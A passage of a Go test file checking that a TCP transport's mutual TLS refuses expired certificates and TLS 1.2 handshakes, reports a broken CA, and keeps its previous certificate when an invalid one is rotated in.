		bFiles := ca.Issue(t, dir, "b", "b")
		require.Eventually(t, func() bool {
			b := newTCP(t, "127.0.0.1:0", secured(bFiles.Security(), nil))
			require.NoError(t, b.Send(a.LocalAddr(), []byte("still in")))
			receiveFrom(t, a, "still in")
			return strings.Contains(logs.String(), "no PEM certificate")
		}, waitTimeout, 150*time.Millisecond, "the broken CA is reported")
		assert.Zero(t, a.Stats().CredentialReloads)
		assert.Zero(t, a.Stats().RefusedTLS)
	})
}

// TestTCPMutualTLSRefusesExpiredAndTLS12 (review of issue 12): a member of
// the CA whose certificate has expired, or one that offers only TLS 1.2,
// is refused in the handshake and delivers nothing.
func TestTCPMutualTLSRefusesExpiredAndTLS12(t *testing.T) {
	dir := t.TempDir()
	ca := securitytest.NewCA(t, dir, "ca")
	member := newTCP(t, "127.0.0.1:0", secured(ca.Issue(t, dir, "m", "m").Security(), nil))

	now := time.Now()
	expired := ca.IssueValid(t, dir, "old", now.Add(-48*time.Hour), now.Add(-time.Hour), "old")
	old := newTCP(t, "127.0.0.1:0", secured(expired.Security(), nil))
	require.NoError(t, old.Send(member.LocalAddr(), []byte("still me")))
	require.Eventually(t, func() bool { return member.Stats().RefusedTLS >= 1 }, waitTimeout, time.Millisecond,
		"the expired certificate is refused: %v", member.Stats().Refusals())
	require.Eventually(t, func() bool { return old.Stats().RefusedByPeer >= 1 }, waitTimeout, time.Millisecond,
		"the expired node learns that the member refused it: %v", old.Stats().Refusals())
	assert.Zero(t, old.Stats().RefusedTLS, "the member's own certificate is fine")

	valid := ca.Issue(t, dir, "v", "v")
	pair, err := tls.LoadX509KeyPair(valid.Cert, valid.Key)
	require.NoError(t, err)
	conn := bareConn(t, member.LocalAddr())
	tc := tls.Client(conn, &tls.Config{Certificates: []tls.Certificate{pair}, InsecureSkipVerify: true,
		MinVersion: tls.VersionTLS12, MaxVersion: tls.VersionTLS12})
	assert.Error(t, tc.Handshake(), "TLS 1.2 is refused")
	require.Eventually(t, func() bool { return member.Stats().RefusedTLS >= 2 }, waitTimeout, time.Millisecond,
		"refusals: %v", member.Stats().Refusals())
	assert.Zero(t, member.Stats().ReceivedFrames)
}

// TestTCPCertificateReloadMustBeValid (review of issue 12): a certificate
// rotated in on disk that has expired, or is not valid yet, is not used
// (every peer would refuse it); the previous one stays and the error is
// logged.
func TestTCPCertificateReloadMustBeValid(t *testing.T) {
	now := time.Now()
	for _, tc := range []struct {
		name                string
		notBefore, notAfter time.Time
	}{
		{"expired", now.Add(-48 * time.Hour), now.Add(-time.Hour)},
		{"not yet valid", now.Add(time.Hour), now.Add(48 * time.Hour)},
	} {
		t.Run(tc.name, func(t *testing.T) {
			dir := t.TempDir()
			ca := securitytest.NewCA(t, dir, "ca")
			aFiles := ca.Issue(t, dir, "a", "node-a")
			var logs syncBuffer
			a := newTCP(t, "127.0.0.1:0", secured(aFiles.Security(), &logs)) // no ID: the period is checked anyway
			presented := presentedNames(t, a, ca.Issue(t, dir, "c", "c"))
			require.Equal(t, []string{"node-a"}, presented())
			securitytest.Replace(t, aFiles, ca.IssueValid(t, dir, "bad", tc.notBefore, tc.notAfter, "node-a", "bad"))
			require.Eventually(t, func() bool {
				presented()
				return strings.Contains(logs.String(), "is not valid now")
			}, waitTimeout, 50*time.Millisecond, "the certificate is reported: %s", logs.String())
			assert.Equal(t, []string{"node-a"}, presented(), "the previous certificate stays in use")
			assert.Zero(t, a.Stats().CredentialReloads)
		})
	}
}
